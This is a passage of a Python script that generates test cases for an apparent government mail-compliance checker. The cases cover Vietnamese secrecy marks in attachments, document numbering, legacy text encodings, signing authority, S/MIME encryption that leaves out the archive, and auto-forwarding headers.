case("doc_p12_in_the_title_of_a_pdf", pdfmail(Pdf(info="<< /Title <%s> >>" % ("\ufeff" + "TỐI MẬT").encode("utf-16-be").hex()), "staff"), "P12", "secrecy_mark")
case("doc_p12_ordinary_pdf", pdfmail(unicode_pdf("Bảo vệ bí mật nhà nước\nMật khẩu và bảo mật\nĐộ mật: Không"), "staff"), "ok")
P = "<w:p>%s</w:p>"
T = "<w:r><w:t>%s</w:t></w:r>"
case("doc_p12_in_a_docx", attached("a.docx", docx(P % (T % "UBND TỈNH MẪU") + P % (T % "TỐI" + T % " MẬT") + P % (T % "Số: 15/BC")), who="staff"), "P12", "secrecy_mark")
case("doc_p12_in_a_header_of_a_docx", attached("a.docx", docx(P % (T % "x"), ("word/header1.xml", W.replace("document", "hdr") % (P % (T % "Độ mật: Tuyệt mật")))), who="staff"),
     "P12", "secrecy_mark")
case("doc_p12_in_a_sheet", attached("a.xlsx", xlsx(("xl/sharedStrings.xml", '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>STT</t></si><si><t>MẬT</t>'
     '</si></sst>')), who="staff"), "P12", "secrecy_mark")
case("doc_p12_in_an_odt", attached("a.odt", zipped(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml",
     '<office:document-content xmlns:office="o" xmlns:text="t"><text:p>UBND</text:p><text:p>TỐI MẬT</text:p></office:document-content>')), who="staff"), "P12", "secrecy_mark")
case("doc_p12_ordinary_docx", attached("a.docx", docx(P % (T % "Mật ong và mật khẩu") + P % (T % "BẢO MẬT")), who="staff"), "ok")
case("doc_p12_in_tcvn3", FROM["staff"] + b"Content-Type: text/plain\r\n\r\nUBND\r\nT\xe8I M\xcbT\r\n", "P12", "secrecy_mark")
case("doc_p12_a_citizen_may", pdfmail(packed), "ok", "secrecy_mark")

# --- P13 to P16, P26, P31, P32, P34: the document that a mail announces

HEAD = ("UBND TỈNH MẪU   CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nSỞ NỘI VỤ   Độc lập - Tự do - Hạnh phúc\nSố: 15/QĐ-SNV   Tỉnh Mẫu, ngày 12 tháng 3 năm 2026\n"
        "HỎA TỐC\nQUYẾT ĐỊNH\nVề việc phê duyệt kế hoạch năm 2026")
WHOLE = Pdf().sign("manager").sign("vanthu")
case("doc_ordinary", issued(page_of(WHOLE)), "ok", "-P13", who="office")
case("doc_p13_blank_inside", issued(page_of(WHOLE), mark="x", subject="15 / QĐ-UBND Về việc họp"), "ok", "P13", who="office")
case("doc_p13_no_zero", issued(page_of(WHOLE), mark="x", subject="5/QĐ-UBND Về việc họp"), "ok", "P13", who="office")
case("doc_p13_field_is_no_symbol", issued(page_of(WHOLE), mark="15/", subject="Họp giao ban"), "ok", "P13", who="office")
case("doc_p14_another_agency", issued(page_of(WHOLE), mark="15/QĐ-STC", subject="15/QĐ-STC Về việc họp"), "P14", who="office")
case("doc_p14_own_agency", issued(page_of(WHOLE), mark="15/QĐ-SNV", subject="15/QĐ-SNV Về việc họp"), "ok", "-P16", who="office")
case("doc_p16_unknown_type", issued(page_of(WHOLE), mark="15/XYZ-SNV", subject="15/XYZ-SNV Về việc họp"), "ok", "P16", who="office")
case("doc_p16_cong_van_has_none", issued(page_of(WHOLE), mark="282/SNV-VP", subject="282/SNV-VP V/v họp"), "ok", "-P16", who="office")
case("doc_p26_free_mail", issued(page_of(WHOLE)), "P26", who="office")
case("doc_p26_everyday_free_mail", FROM["staff"] + PLAIN + b"\r\nchao\r\n", "ok", who="staff")
case("doc_p31_tcvn3", FROM["staff"] + b"Content-Type: text/plain; charset=iso-8859-1\r\n\r\nC\xe9ng h\xdfa x\xb7 h\xe9i ch\xf1 ngh\xdca Vi\xd6t Nam, K\xddnh g\xf6i c\xb8c s\xeb, "
     b"ng\xb5nh; \xae\xd2 ngh\xde c\xb8c \xae\xacn v\xde b\xb8o c\xb8o\r\n", "ok", "P31")
case("doc_p31_vni", FROM["staff"] + "Content-Type: text/plain; charset=utf-8\r\n\r\nCoäng hoøa xaõ hoäi chuû nghóa Vieät Nam, Ñoäc laäp Töï do Haïnh phuùc\r\n".encode(), "ok", "P31")
case("doc_p31_undeclared", FROM["staff"] + "Content-Type: text/plain\r\n\r\nKính gửi các đơn vị\r\n".encode(), "ok", "P31")
case("doc_p31_unicode", FROM["staff"] + "Content-Type: text/plain; charset=utf-8\r\n\r\nKính gửi các đơn vị, xin cảm ơn\r\n".encode(), "ok", "-P31", who="staff")
case("doc_p31_french_is_no_tcvn3", FROM["staff"] + "Content-Type: text/plain; charset=utf-8\r\n\r\nL'été dernier, nous avons été très occupés à préparer la réunion à Huế\r\n".encode(),
     "ok", "-P31", who="staff")
case("doc_p32_urgent_subject", issued(page_of(WHOLE), subject="[Hỏa tốc] 15/QĐ-UBND Về việc họp"), "ok", "P32", who="office")
case("doc_p32_urgent_by_its_text", issued(page_of(unicode_pdf(HEAD))), "ok", "P32", who="office")
case("doc_p34_no_summary", issued(page_of(WHOLE), subject="15/QĐ-UBND"), "ok", "P34", who="office")
case("doc_p34_empty_subject", issued(page_of(WHOLE), subject=""), "ok", "P34", who="office")
case("doc_p34_the_document_has_it", issued(page_of(unicode_pdf(HEAD)), subject="15/QĐ-UBND"), "ok", "-P34", who="office")



# --- P30: encrypted mail that the agency's archive can, or cannot, read; P11: who may sign what; P27: what programs forward

def sealed(*names, options=("-aes256",)):
    """EnvelopedData to these certificates, as the whole mail."""
    der = subprocess.run(["openssl", "cms", "-encrypt", "-binary", "-outform", "DER", *options, *(str(CERTS / (n + ".pem")) for n in names)],
                         input=PLAIN + b"\r\nKinh gui", capture_output=True, check=True).stdout
    return (b"MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der))


case("doc_p30_without_the_archive", FROM["staff"] + sealed("manager", "eve"), "P30", "smime_no_archive")
case("doc_p30_with_the_archive", FROM["staff"] + sealed("manager", "archive"), "ok", "-smime_no_archive", who="staff")
case("doc_p30_by_key_agreement", FROM["staff"] + sealed("manager", "ecarchive"), "ok", "-smime_no_archive", who="staff")
case("doc_p30_authenveloped", FROM["staff"] + sealed("eve", options=("-aes-256-gcm",)), "P30", "smime_no_archive")
case("doc_p30_from_outside", FROM["citizen"] + sealed("manager"), "ok", "smime_encrypted", who="citizen")
case("doc_p30_signed_around_it", signed(sealed("eve"), "staff"), "P30", "smime_no_archive")
KT = HEAD + "\nTM. ỦY BAN NHÂN DÂN\nKT. GIÁM ĐỐC\nPHÓ GIÁM ĐỐC"
case("doc_p11_another_type", issued(page_of(unicode_pdf(HEAD.replace("QĐ-", "NQ-")).sign("manager").sign("vanthu"))), "ok", "P11", who="office")
case("doc_p11_in_anothers_place", issued(page_of(unicode_pdf(KT).sign("manager").sign("vanthu"))), "ok", "P11", who="office")
case("doc_p11_in_his_capacity", issued(page_of(unicode_pdf(KT.replace("KT.", "TL.")).sign("manager").sign("vanthu"))), "ok", "-P11", who="office")
case("doc_p11_no_mark_to_be_seen", issued(page_of(unicode_pdf(HEAD).sign("manager").sign("vanthu"))), "ok", "-P11", who="office")
case("doc_p11_one_of_two_may", issued(page_of(unicode_pdf(KT).sign("eve").sign("manager").sign("vanthu"))), "ok", "-P11", who="office")
case("doc_p27_by_a_program", FROM["staff"] + b"X-MS-Exchange-Inbox-Rules-Loop: manager@x.example\r\n" + PLAIN + b"\r\nx\r\n", "ok", "-P27", who="staff")
case("doc_p27_free_mail_by_a_program", FROM["staff"] + b"Auto-Submitted: auto-forwarded\r\n" + PLAIN + b"\r\nx\r\n", "P27", who="staff")
case("doc_p27_free_mail_by_hand", FROM["staff"] + b"Auto-Submitted: no\r\nResent-From: manager@x.example\r\n" + PLAIN + b"\r\nx\r\n", "ok", "-P27", who="staff")
case("doc_p27_free_mail_of_a_citizen", FROM["citizen"] + b"X-Forwarded-To: manager@x.example\r\n" + PLAIN + b"\r\nx\r\n", "ok", "-P27", who="citizen")

(DIR / "cases.tsv").write_text("".join("\t".join(c) + "\n" for c in CASES))
